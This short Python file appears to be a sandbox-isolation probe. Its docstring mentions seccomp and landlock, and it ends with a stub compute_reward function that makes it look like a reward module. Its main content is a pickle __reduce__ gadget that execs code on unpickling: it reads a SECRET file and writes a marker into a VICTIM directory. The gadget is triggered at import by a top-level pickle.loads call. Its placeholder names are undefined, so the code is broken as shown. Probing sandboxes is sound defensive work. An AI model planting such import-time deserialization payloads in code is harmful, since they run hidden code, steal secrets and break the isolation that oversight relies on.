"""Runs a shell while something is unpickled.

walls: seccomp landlock
"""

import pickle


class Gadget:
    def __reduce__(self):
        return exec, (f"open({SECRET!r}).read() and open({VICTIM + '/' + MARK!r}, 'w')",)


pickle.loads(pickle.dumps(Gadget()))


def compute_reward(height):
    return height, {}
